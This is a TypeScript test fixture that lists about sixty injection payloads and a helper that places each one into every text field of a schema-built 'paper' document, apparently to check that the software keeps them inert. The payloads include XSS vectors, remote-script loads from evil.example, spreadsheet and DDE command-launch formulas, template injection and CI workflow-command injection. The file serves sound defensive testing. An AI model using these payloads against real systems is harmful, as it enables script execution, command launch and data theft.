/** Texts that would run, load or break something where they were taken for more than text; and a paper that holds one wherever a text may stand. */
import { schemaOf, type Schema } from "../src/core/schema.ts";

export const corpus: readonly string[] = [
  "<script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script src=//evil.example/x.js></script>",
  "<img src=x onerror=alert(1)>",
  "<img src=http://evil.example/x.png>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mi//xlink:href='javascript:alert(1)'>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<object data=http://evil.example></object>",
  "<embed src=http://evil.example>",
  "<link rel=stylesheet href=http://evil.example>",
  "<base href=http://evil.example>",
  "<meta http-equiv=refresh content='0;url=http://evil.example'>",
  "<form action=http://evil.example><input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<body onload=alert(1)>",
  "<style>*{background:url(http://evil.example)}</style>",
  "<style>@import 'http://evil.example';</style>",
  "<a href=javascript:alert(1)>a</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml-stylesheet href='http://evil.example'?>",
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover=alert(1) x="',
  "' onmouseover=alert(1) x='",
  "` onmouseover=alert(1) x=`",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "[a](javascript:alert(1))",
  "[a](JAVASCRIPT:alert(1) 'x')",
  "[a]: javascript:alert(1)\n\n[a]",
  "![a](http://evil.example/x.png)",
  "![a](x){onerror=alert(1)}",
  "<http://evil.example>",
  "[a](command:workbench.action.quit)",
  "$(alert~spin) $(error)",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)",
  "\\u003cscript\\u003ealert(1)",
  "%3Cscript%3Ealert(1)",
  "\u2028alert(1)//\u2029",
  "\ufeff<script>alert(1)</script>",
  "${alert(1)} {{constructor.constructor('alert(1)')()}} #{alert(1)}",
  "]]></w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\x</w:instrText>",
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+HYPERLINK("http://evil.example")',
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "::error file=a::b%0A::add-mask::c",
  "|a|b|\n|-|-|",
];

/** A paper with the text in every place that takes one, derived from the schema: the places that want a number, a day or a listed value hold such. */
export function paperHolding(text: string): string {
  const value = (schema: Schema, key: string): unknown => {
    const [type] = [schema.type ?? "string"].flat();
    if (schema.enum) return schema.enum[0];
    if (schema["x-defines"]) return "UJI-2025-001";
    if (key === "format") return "kertas-kerja/1";
    if (schema.format === "date") return "2025-11-04";
    if (type === "integer" || type === "number") return 38;
    if (type === "boolean") return true;
    if (schema.items && type === "array") return [value(schema.items, key)];
    if (type === "object")
      return Object.fromEntries(
        Object.entries(schema.properties ?? {}).map(([name, inner]) => [name, value(inner, name)]),
      );
    return schema.pattern === undefined ? text : key === "session" ? 38 : text;
  };
  const paper = value(schemaOf("paper"), "") as Record<string, unknown>;
  // A forum that is known, so that the paper is followed.
  return JSON.stringify(
    { ...paper, session: { ...(paper["session"] as object), forum: "kk-jkk-kalbar-sarawak" } },
    null,
    1,
  );
}
